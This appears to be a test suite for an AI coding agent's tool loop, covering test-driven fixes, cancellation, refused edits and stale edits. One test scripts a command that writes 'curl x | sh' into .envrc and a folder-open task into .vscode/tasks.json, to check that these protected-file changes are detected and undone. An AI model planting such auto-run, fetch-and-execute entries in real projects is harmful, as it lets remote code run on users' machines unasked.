// The loop with the real core tools, policy and file applier (what the panel and the CLI run):
// self-correction after a failing test, a real long run_command killed on cancel, a refused edit,
// and a stale edit the model is told to redo.
import { strict as assert } from 'node:assert';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { ModelServer } from '../../../fixtures/modelServer';
import { chatStream, chatToolCallStream } from '../../../fixtures/replies';
import { builtinToolSet } from '../../../../src/core/agent/toolSet';
import { FileApplier } from '../../../../src/core/edits/fileApplier';
import type { Approver } from '../../../../src/core/changes/approval';
import { exitsWithin } from '../../../fixtures/processes';
import { CHAT, harness, ofType } from './harness';
import { undoProtected, type ProtectedChange } from '../../../../src/core/sandbox/protectedSet';
import { tempWorkspace } from './testTools';


describe('agent loop with the core tools', () => {
  let server: ModelServer;
  let root: string;
  beforeEach(async () => {
    server = await ModelServer.start();
    root = await tempWorkspace({
      'package.json': JSON.stringify({ scripts: { test: 'sh test.sh' } }),
      'test.sh': 'grep -q "^export const answer = 42;$" answer.js || { echo "FAIL: answer should be 42"; exit 1; }\necho PASS\n',
      'answer.js': 'export const answer = 41;\n',
    });
  });
  afterEach(async () => {
    await server.close();
    await fs.rm(root, { recursive: true, force: true });
  });
  const real = (extra: Parameters<typeof harness>[2] = {}) => harness(server, root, { tools: builtinToolSet(), applier: new FileApplier(root), ...extra });

  it('runs the failing test, fixes the code with edit_file, and reruns it green', async () => {
    server.enqueue(
      CHAT,
      chatToolCallStream([{ id: 't1', name: 'run_command', arguments: { command: 'npm test --silent' } }]),
      chatToolCallStream([{ id: 'e1', name: 'edit_file', arguments: { path: 'answer.js', old_string: '41', new_string: '42' } }]),
      chatToolCallStream([{ id: 't2', name: 'run_command', arguments: { command: 'npm test --silent' } }]),
      chatStream('Fixed: answer is 42 and the test passes.'),
    );
    const h = real();
    const r = await h.run('make the tests pass');
    assert.equal(r.reason, 'answer');
    const done = ofType(h.events, 'toolCallFinished');
    assert.match(done[0].output, /FAIL: answer should be 42/);
    assert.equal(done[1].isError, false, done[1].output);
    assert.match(done[2].output, /PASS/);
    assert.equal(await fs.readFile(path.join(root, 'answer.js'), 'utf8'), 'export const answer = 42;\n');
    assert.match(server.requestsTo(CHAT)[0].body.messages[1].content, /Test command: npm test/);
  });

  it('tells the host which files that run later a command created or changed, with what Undo needs', async () => {
    await fs.mkdir(path.join(root, '.vscode'));
    await fs.writeFile(path.join(root, '.vscode', 'tasks.json'), '{"tasks":[]}\n');
    server.enqueue(
      CHAT,
      chatToolCallStream([{ id: 'p', name: 'run_command', arguments: { command: `echo 'curl x | sh' > .envrc; echo '{"tasks":[{"runOn":"folderOpen"}]}' > .vscode/tasks.json` } }]),
      chatStream('Done.'),
    );
    const seen: ProtectedChange[][] = [];
    await real({ onProtectedChanges: (c) => seen.push(c) }).agent.run('set up the env');
    assert.equal(seen.length, 1);
    assert.deepEqual(seen[0].map((c) => [c.rel, c.kind, c.undoable]).sort(), [['.envrc', 'created', true], ['.vscode/tasks.json', 'changed', true]]);
    assert.deepEqual(await undoProtected(root, seen[0]), []);
    assert.equal(await fs.readFile(path.join(root, '.vscode', 'tasks.json'), 'utf8'), '{"tasks":[]}\n');
    await assert.rejects(fs.access(path.join(root, '.envrc')));
  });

  it('cancelling kills a real long run_command and its children at once', async () => {
    server.enqueue(CHAT, chatToolCallStream([{ id: 'c', name: 'run_command', arguments: { command: 'echo $$ > pid.txt; echo started; sleep 30' } }]));
    const h = real();
    const ac = new AbortController();
    const r = await h.agent.run('run it', {
      signal: ac.signal,
      onEvent: (e) => {
        h.events.push(e);
        if (e.type === 'toolOutput' && e.chunk.includes('started')) ac.abort();
      },
    });
    assert.equal(r.reason, 'cancelled');
    const pid = Number((await fs.readFile(path.join(root, 'pid.txt'), 'utf8')).trim());
    assert.equal(await exitsWithin(pid), true);
  });

  it('in suggest mode a refused edit is not applied and the model is told', async () => {
    server.enqueue(
      CHAT,
      chatToolCallStream([{ id: 'e', name: 'edit_file', arguments: { path: 'answer.js', old_string: '41', new_string: '42' } }]),
      chatStream('Understood, I left it.'),
    );
    const refuse: Approver = { request: async () => ({ approved: false, reason: 'Not now.' }) };
    const h = real({ approvalMode: 'suggest', approver: refuse });
    const r = await h.run('fix');
    assert.equal(r.reason, 'answer');
    assert.equal(await fs.readFile(path.join(root, 'answer.js'), 'utf8'), 'export const answer = 41;\n');
    assert.equal(ofType(h.events, 'approvalNeeded')[0].request.type, 'edit');
    assert.deepEqual(ofType(h.events, 'approvalResolved').map((e) => e.approved), [false]);
    assert.equal(ofType(h.events, 'toolCallFinished')[0].isError, true);
  });

  it('an edit made stale while awaiting approval is refused and the model told to re-read', async () => {
    server.enqueue(
      CHAT,
      chatToolCallStream([{ id: 'e', name: 'edit_file', arguments: { path: 'answer.js', old_string: '41', new_string: '42' } }]),
      chatStream('I will re-read it.'),
    );
    const meddler: Approver = {
      request: async () => {
        await fs.writeFile(path.join(root, 'answer.js'), 'export const answer = 40;\n');
        return { approved: true };
      },
    };
    const h = real({ approvalMode: 'suggest', approver: meddler });
    const r = await h.run('fix');
    assert.equal(r.reason, 'answer');
    const finished = ofType(h.events, 'toolCallFinished')[0];
    assert.equal(finished.isError, true);
    assert.match(finished.output, /changed after this edit was proposed/);
    assert.equal(await fs.readFile(path.join(root, 'answer.js'), 'utf8'), 'export const answer = 40;\n');
  });
});
